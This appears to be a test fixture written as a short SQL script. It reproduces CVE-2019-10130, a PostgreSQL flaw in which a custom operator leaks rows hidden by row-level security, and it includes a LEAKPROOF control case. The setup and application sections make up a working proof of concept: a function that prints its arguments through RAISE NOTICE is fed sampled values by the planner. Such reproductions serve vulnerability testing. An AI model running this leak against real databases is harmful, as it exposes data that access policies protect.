-- way: have the planner call an operator of the application on the sampled values of rows that a policy hides
-- source: CVE-2019-10130
-- control: a superuser's function, which the operator calls, is LEAKPROOF
-- section: setup
CREATE TABLE shop.ledger (id serial, tenant text, note text);
INSERT INTO shop.ledger (tenant, note) SELECT 'bank', :'canary' FROM generate_series(1, 50);
ALTER TABLE shop.ledger ENABLE ROW LEVEL SECURITY;
CREATE POLICY own ON shop.ledger USING (tenant = current_user);
ANALYZE shop.ledger;
CREATE FUNCTION ext.same(text, text) RETURNS boolean LANGUAGE plpgsql AS $$ BEGIN RAISE NOTICE '%', $1; RETURN $1 = $2; END $$;
-- section: application
CREATE OPERATOR shop.=== (FUNCTION = ext.same, LEFTARG = text, RIGHTARG = text, RESTRICT = eqsel);
EXPLAIN SELECT * FROM shop.ledger WHERE note OPERATOR(shop.===) 'x';
SELECT * FROM shop.ledger WHERE ext.same(note, 'x');
SELECT most_common_vals FROM pg_stats WHERE tablename = 'ledger';
-- section: control
ALTER FUNCTION ext.same(text, text) LEAKPROOF;
